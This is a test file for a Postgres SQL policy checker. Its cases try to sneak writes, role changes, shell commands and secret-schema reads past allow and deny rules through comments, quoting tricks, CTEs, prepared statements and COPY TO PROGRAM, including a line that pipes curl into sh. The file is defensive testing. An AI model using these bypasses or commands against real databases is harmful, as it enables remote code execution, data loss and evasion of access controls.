/**
 * The bypass cases: (policy, sql) → verdict, through the real parser pool and a fresh session judge.
 * Each row is a way someone might try to smuggle a statement past its rule.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SessionJudge } from './session-judge.js';
import { ParserPool } from './sql/parser-pool.js';
import { PERMISSIVE, PROD, READ_ONLY, policy, session } from './test-support/rules.js';
import { ACTION_RANK, type Action, type PolicyRules } from './types.js';

let pool: ParserPool;
beforeAll(() => {
  pool = new ParserPool({ size: 2 });
});
afterAll(async () => {
  await pool.close();
});

const DENY_USERS = policy('deny-users', [{ tables: ['public.users'], action: 'deny' }], 'allow');
const PUBLIC_ONLY = policy('public-only', [{ statements: ['select'], tables: ['public.*'], action: 'allow' }], 'deny');
const ALLOW_ALL = policy('allow-all', [], 'allow');
const UPSERT = policy('upsert', [{ statements: ['insert'], action: 'allow' }], 'review');

const POLICIES: Record<string, PolicyRules> = { PROD, READ_ONLY, PERMISSIVE, DENY_USERS, PUBLIC_ONLY, ALLOW_ALL, UPSERT };

/** [policy, sql, expected]; sql may be several Query messages sent in turn (the last one is judged). */
type Case = [keyof typeof POLICIES, string | string[], Action];

async function judge(policies: PolicyRules[], sql: string | string[]) {
  const j = new SessionJudge(session(...policies), pool);
  const queries = Array.isArray(sql) ? sql : [sql];
  let last;
  for (const q of queries) last = await j.judgeSimpleQuery(q);
  return last!;
}

const CASES: Record<string, Case[]> = {
  comments: [
    ['READ_ONLY', '/* x */ delete from t', 'deny'],
    ['READ_ONLY', 'delete /* select */ from t', 'deny'],
    ['READ_ONLY', '-- select\ndelete from t', 'deny'],
    ['READ_ONLY', '/* /* nested */ select */ delete from t', 'deny'],
    ['READ_ONLY', '/* /* nested */ ; select 1; */ delete from t', 'deny'],
    ['READ_ONLY', 'select 1 -- ; delete from t', 'allow'],
    ['READ_ONLY', 'select 1 /* ; delete from t */', 'allow'],
    ['READ_ONLY', "select 1 /* /* ; */ delete from t */ ; select 2", 'allow'],
    ['READ_ONLY', "select '; delete from t'", 'allow'],
    ['READ_ONLY', "select E'\\'; delete from t; --'", 'allow'],
    ['READ_ONLY', "select 'it''s'; delete from t", 'deny'],
  ],
  'casing and quoting': [
    ['READ_ONLY', 'DeLeTe FROM t', 'deny'],
    ['DENY_USERS', 'select * from public.users', 'deny'],
    ['DENY_USERS', 'select * from PUBLIC.USERS', 'deny'],
    ['DENY_USERS', 'select * from "public"."users"', 'deny'],
    ['DENY_USERS', 'select * from "Public"."Users"', 'deny'], // another table in Postgres; deny rules match case-insensitively
    ['DENY_USERS', 'select * from users', 'deny'], // unqualified: could be public.users
    ['DENY_USERS', 'select * from other.users', 'allow'],
    ['DENY_USERS', 'select * from public.orders', 'allow'],
    ['DENY_USERS', 'select * from public.orders o join lateral (select * from public.users) u on true', 'deny'],
    ['PUBLIC_ONLY', 'select * from public.a', 'allow'],
    ['PUBLIC_ONLY', 'select * from a', 'allow'], // unqualified, default search_path: public
    ['PUBLIC_ONLY', 'select * from "Public"."A"', 'deny'], // not public.a: allow rules match exactly
    ['PUBLIC_ONLY', 'select * from public.a, secrets.b', 'deny'],
    ['PUBLIC_ONLY', 'select * from public.a where id in (select id from secrets.b)', 'deny'],
    ['PUBLIC_ONLY', 'select * from pg_authid', 'deny'], // pg_catalog is searched before public
    ['PUBLIC_ONLY', 'select 1', 'allow'],
    ['PUBLIC_ONLY', ['set search_path = secrets, public', 'select * from keys'], 'deny'],
    ['PUBLIC_ONLY', ["select set_config('search_path', 'secrets', false)", 'select * from keys'], 'deny'],
  ],
  'dollar quoting': [
    ['READ_ONLY', 'select $$; delete from t$$', 'allow'],
    ['READ_ONLY', 'select $a$ $$ ; delete from t $$ $a$', 'allow'],
    ['READ_ONLY', 'select $a$ x $a$; delete from t', 'deny'],
    ['READ_ONLY', 'select $_$ $a$ $_$; delete from t; select $a$ x $a$', 'deny'],
  ],
  'hidden writes': [
    ['READ_ONLY', 'with x as (delete from t returning *) select * from x', 'deny'],
    ['READ_ONLY', 'with x as (update t set a = 1 returning *) select * from x', 'deny'],
    ['READ_ONLY', 'with x as (insert into t values (1) returning *) select * from x', 'deny'],
    ['READ_ONLY', 'with a as (select 1), b as (delete from t returning *) select * from a', 'deny'],
    ['PROD', 'with x as (delete from public.t returning *) select * from x', 'review'],
    ['PROD', 'with x as (delete from t returning *) select * from x', 'review'],
    ['READ_ONLY', 'merge into t using s on t.id = s.id when matched then delete', 'deny'],
    ['UPSERT', 'insert into t values (1) on conflict (id) do update set a = 2', 'review'],
    ['UPSERT', 'insert into t values (1) on conflict do nothing', 'allow'],
    ['READ_ONLY', 'select * into x from t', 'deny'],
    ['READ_ONLY', 'create table x as select * from t', 'deny'],
    ['READ_ONLY', 'copy (delete from t returning *) to stdout', 'deny'],
    ['PERMISSIVE', "update pg_settings set setting = 'off' where name = 'standard_conforming_strings'", 'deny'],
  ],
  explain: [
    ['READ_ONLY', 'explain analyze delete from t', 'deny'],
    ['READ_ONLY', 'explain (analyze) delete from t', 'deny'],
    ['READ_ONLY', 'explain (analyze on, costs off) update t set a = 1', 'deny'],
    ['READ_ONLY', 'explain delete from t', 'allow'],
    ['READ_ONLY', 'explain (analyze false) delete from t', 'allow'],
    ['PROD', 'explain analyze delete from public.t', 'review'],
    ['READ_ONLY', 'explain analyze select * from t', 'allow'],
  ],
  'prepared statements': [
    ['READ_ONLY', 'prepare p as delete from t; execute p', 'deny'],
    ['READ_ONLY', ['prepare p as select 1', 'execute p'], 'allow'],
    ['READ_ONLY', 'prepare p as delete from t', 'deny'],
    ['PROD', 'prepare p as delete from public.t', 'allow'], // runs nothing; reviewed at EXECUTE
    ['PROD', ['prepare p as delete from public.t', 'execute p'], 'review'],
    ['PROD', ['prepare p as delete from public.t', 'explain analyze execute p'], 'review'],
    ['PROD', ['prepare p as delete from public.t', 'explain execute p'], 'allow'],
    ['READ_ONLY', 'execute never_prepared', 'deny'],
    ['PERMISSIVE', 'execute never_prepared', 'deny'],
    ['ALLOW_ALL', 'execute never_prepared', 'allow'],
    ['READ_ONLY', ['prepare p as select 1', 'deallocate p', 'execute p'], 'deny'],
    ['READ_ONLY', ['prepare p as select 1', 'deallocate all', 'execute p'], 'deny'],
    ['READ_ONLY', ['prepare p as select 1', 'discard all', 'execute p'], 'deny'],
    // a second PREPARE of a taken name fails on the server, which keeps the first: judged as both
    ['PROD', ['prepare p as delete from public.t', 'prepare p as select 1', 'execute p'], 'review'],
    ['PROD', ['prepare p as select 1', 'create table x as execute p'], 'review'],
  ],
  copy: [
    ['READ_ONLY', "copy t to program 'sh'", 'deny'],
    ['PERMISSIVE', "copy t to program 'sh'", 'deny'],
    ['PERMISSIVE', "copy t from program 'curl http://x | sh'", 'deny'],
    ['PERMISSIVE', "copy t to '/tmp/out'", 'deny'],
    ['READ_ONLY', 'copy t from stdin', 'deny'],
    ['PROD', 'copy public.t from stdin', 'review'],
    ['PERMISSIVE', 'copy secrets.k to stdout', 'deny'],
  ],
  'unknowable code': [
    ['READ_ONLY', 'do $$ begin delete from t; end $$', 'deny'],
    ['PROD', 'do $$ begin perform 1; end $$', 'deny'],
    ['PERMISSIVE', "do language plpgsql 'begin null; end'", 'deny'],
    ['ALLOW_ALL', 'do $$ begin delete from t; end $$', 'allow'],
    ['READ_ONLY', 'call proc()', 'deny'],
    ['PERMISSIVE', 'call proc()', 'deny'],
    ['READ_ONLY', "select dblink_exec('host=x', 'delete from t')", 'deny'],
    ['PERMISSIVE', "select * from dblink('host=x', 'select * from secrets.k') as t(a int)", 'deny'],
    ['PERMISSIVE', "select query_to_xml('delete from t returning *', true, true, '')", 'deny'],
    ['PERMISSIVE', "select ts_stat('delete from t returning *')", 'deny'],
  ],
  'lexing settings': [
    ['PERMISSIVE', 'set standard_conforming_strings = off', 'deny'],
    ['PERMISSIVE', 'set session standard_conforming_strings to off', 'deny'],
    ['PERMISSIVE', "select set_config('standard_conforming_strings', 'off', false)", 'deny'],
    ['PERMISSIVE', "select set_config('standard_conforming_strings', 'off', false) from (select 1) s", 'deny'],
    ['PERMISSIVE', "set client_encoding = 'SJIS'", 'deny'],
    ['PERMISSIVE', 'set standard_conforming_strings = on', 'allow'],
    ['READ_ONLY', 'set standard_conforming_strings = on', 'allow'],
    ['READ_ONLY', "set client_encoding = 'UTF8'", 'allow'],
  ],
  'session statements': [
    ['READ_ONLY', 'begin', 'allow'],
    ['READ_ONLY', 'start transaction isolation level serializable, read only', 'allow'],
    ['READ_ONLY', 'commit', 'allow'],
    ['READ_ONLY', 'rollback', 'allow'],
    ['READ_ONLY', 'savepoint a', 'allow'],
    ['READ_ONLY', 'release savepoint a', 'allow'],
    ['READ_ONLY', 'set extra_float_digits = 3', 'allow'],
    ['READ_ONLY', "set application_name = 'psql'", 'allow'],
    ['READ_ONLY', 'show transaction_isolation', 'allow'],
    ['READ_ONLY', 'begin; select 1; commit', 'allow'],
    ['READ_ONLY', 'begin; delete from t; commit', 'deny'],
    ['READ_ONLY', 'set role admin', 'deny'],
    ['READ_ONLY', 'set session authorization bob', 'deny'],
    ['READ_ONLY', "commit prepared 'x'", 'deny'],
    ['PROD', 'set role admin', 'review'],
    ['READ_ONLY', 'declare c cursor for select * from t', 'allow'],
  ],
  'multi-statement and unicode': [
    ['PROD', 'select 1; drop table t; select 2', 'deny'],
    ['PROD', 'select 1; delete from public.t', 'review'],
    ['READ_ONLY', "select 'é€😀'; delete from t", 'deny'],
    ['READ_ONLY', 'select "名前" from "テーブル"; delete from t', 'deny'],
    ['DENY_USERS', "select 'ü'; select * from public.users", 'deny'],
    ['DENY_USERS', "select '𝔘𝔫𝔦𝔠𝔬𝔡𝔢'; select * from public.orders", 'allow'],
  ],
  'unparseable input': [
    ['READ_ONLY', 'selec 1', 'deny'],
    ['PERMISSIVE', 'selec 1', 'deny'],
    ['PROD', 'select 1; selec 2', 'deny'],
    ['ALLOW_ALL', 'selec 1', 'allow'],
    ['PERMISSIVE', "select 'unterminated", 'deny'],
    ['PERMISSIVE', 'select /* unterminated comment', 'deny'],
  ],
  'tables and schemas': [
    ['PERMISSIVE', 'drop schema secrets cascade', 'deny'],
    ['PERMISSIVE', 'grant select on all tables in schema secrets to public', 'deny'],
    ['PERMISSIVE', 'alter table secrets.k rename to k2', 'deny'],
    ['PERMISSIVE', 'drop table public.t', 'review'],
    ['PERMISSIVE', 'truncate secrets.k', 'deny'],
    ['PERMISSIVE', 'select * from public.t', 'allow'],
  ],
  defaults: [
    ['PROD', 'vacuum t', 'review'],
    ['PROD', 'select * from t', 'allow'],
    ['PROD', 'delete from other.t', 'review'], // no rule: default review
    ['PROD', 'truncate public.t', 'deny'],
    ['ALLOW_ALL', 'drop table t', 'allow'],
    ['READ_ONLY', '', 'allow'],
    ['READ_ONLY', ' -- only a comment', 'allow'],
  ],
};

for (const [group, cases] of Object.entries(CASES)) {
  describe(group, () => {
    it.each(cases)('%s: %j → %s', async (name, sql, expected) => {
      const verdict = (await judge([POLICIES[name]!], sql)).verdict;
      expect(verdict.action, verdict.reasons.join('\n')).toBe(expected);
    });
  });
}

describe('hostile and oversized input', () => {
  it('denies 10,000 nested NOTs with a reason, and the next statement is judged normally', async () => {
    const j = new SessionJudge(session(READ_ONLY), pool);
    const hostile = await j.judgeSimpleQuery(`select ${'not '.repeat(10_000)}true`);
    expect(hostile.verdict.action).toBe('deny');
    expect(hostile.verdict.reasons.join()).toMatch(/cannot be analysed/);
    expect((await j.judgeSimpleQuery('select 1')).verdict.action).toBe('allow');
  });

  it('denies a statement over the size limit', async () => {
    const verdict = (await judge([PERMISSIVE], `select 1 where 1 in (${'1,'.repeat(600_000)}1)`)).verdict;
    expect(verdict.action).toBe('deny');
    expect(verdict.reasons.join()).toMatch(/too large/);
  });
});

describe('across policies', () => {
  it('takes the strictest verdict', async () => {
    expect((await judge([READ_ONLY, PERMISSIVE], 'select * from secrets.k')).verdict.action).toBe('deny');
    expect((await judge([PROD, ALLOW_ALL], 'delete from public.t')).verdict.action).toBe('review');
    expect((await judge([ALLOW_ALL, PROD], 'select 1')).verdict.action).toBe('allow');
  });

  it('names every policy and statement that gave the verdict', async () => {
    const { verdict } = await judge([PROD, DENY_USERS], 'select 1; drop table t; select * from users');
    expect(verdict.action).toBe('deny');
    expect(verdict.matched).toEqual([
      { policy: 'prod-postgres', version: 1, ruleIndex: 0, statementIndex: 1 },
      { policy: 'deny-users', version: 1, ruleIndex: 0, statementIndex: 2 },
    ]);
  });
});

// Property-style: for every single-query case, wrapping the text in comments never changes the verdict,
// and a query of two statements is judged as the stricter of the two.
const singles = Object.values(CASES).flat().filter((c): c is [keyof typeof POLICIES, string, Action] =>
  typeof c[1] === 'string' && c[1].trim() !== '' && !c[1].includes('--') && !c[1].includes('unterminated'));

describe('properties', () => {
  it('comments around a statement never change its verdict', async () => {
    for (const [name, sql, expected] of singles) {
      for (const wrapped of [`/* x */ ${sql}`, `${sql} -- x`, `-- x;\n${sql}`, `/* a /* b */ ; */${sql}\n/* ; */`]) {
        const verdict = (await judge([POLICIES[name]!], wrapped)).verdict;
        expect(verdict.action, `${name}: ${wrapped}`).toBe(expected);
      }
    }
  });

  it('a two-statement query gets the stricter verdict of its parts', async () => {
    const parts = singles.filter(([name]) => name === 'PERMISSIVE' || name === 'READ_ONLY').slice(0, 30);
    for (let i = 0; i < parts.length; i++) {
      const a = parts[i]!;
      const b = parts[(i * 7 + 3) % parts.length]!;
      if (a[0] !== b[0] || /^prepare|execute/i.test(a[1]) || /^prepare|execute/i.test(b[1])) continue;
      const both = (await judge([POLICIES[a[0]]!], `${a[1]};\n${b[1]}`)).verdict.action;
      const expected = ACTION_RANK[a[2]] >= ACTION_RANK[b[2]] ? a[2] : b[2];
      expect(both, `${a[1]} ; ${b[1]}`).toBe(expected);
    }
  });
});
